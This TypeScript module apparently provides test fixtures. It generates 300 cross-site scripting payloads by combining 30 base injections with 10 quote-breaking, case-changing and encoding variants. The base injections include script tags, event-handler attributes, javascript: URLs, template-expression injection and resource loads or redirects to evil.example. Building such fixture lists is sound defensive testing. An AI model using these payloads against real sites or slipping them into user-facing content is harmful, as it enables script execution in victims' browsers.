const run = (quote = ""): string => `globalThis.pwned=1;alert(${quote}1${quote})`;

/** What somebody would write into a name, a label or a message to have it run in another's browser. */
const bases: readonly string[] = [
  `<script>${run()}</script>`,
  `<img src=x onerror="${run()}">`,
  `<svg onload="${run()}">`,
  `<svg><script>${run()}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${run()}"></iframe>`,
  `<a href="javascript:${run()}">click</a>`,
  `javascript:${run()}`,
  `data:text/html,<script>${run()}</script>`,
  `<math><mtext></mtext><script>${run()}</script></math>`,
  `<object data="javascript:${run()}"></object>`,
  `<embed src="javascript:${run()}">`,
  `<details open ontoggle="${run()}">x</details>`,
  `<video><source onerror="${run()}"></video>`,
  `<body onload="${run()}">`,
  `<input autofocus onfocus="${run()}">`,
  `<form action="javascript:${run()}"><button autofocus>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<style>*{background:url(https://evil.example/b)}</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `</title><script>${run()}</script>`,
  `</textarea><script>${run()}</script>`,
  `--><script>${run()}</script>`,
  `]]><script>${run()}</script>`,
  `{{constructor.constructor('${run()}')()}}`,
  `\${${run()}}`,
  `<x contenteditable onfocus="${run()}" autofocus tabindex=1>x</x>`,
  `%3Cscript%3E${run()}%3C/script%3E`,
  `\u202E<script>${run()}</script>\u2066`,
];

const variants: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"${payload}`,
  (payload) => `'${payload}`,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</div>${payload}`,
  (payload) => payload.replaceAll("script", "sCRipt"),
  (payload) => payload.replaceAll("<", "&lt;"),
  (payload) => `\u001b[31m${payload}\u0007`,
  (payload) => `${payload}\n${payload}`,
];

/** 300 of them. */
export const payloads: readonly string[] = bases.flatMap((base) => variants.map((vary) => vary(base)));
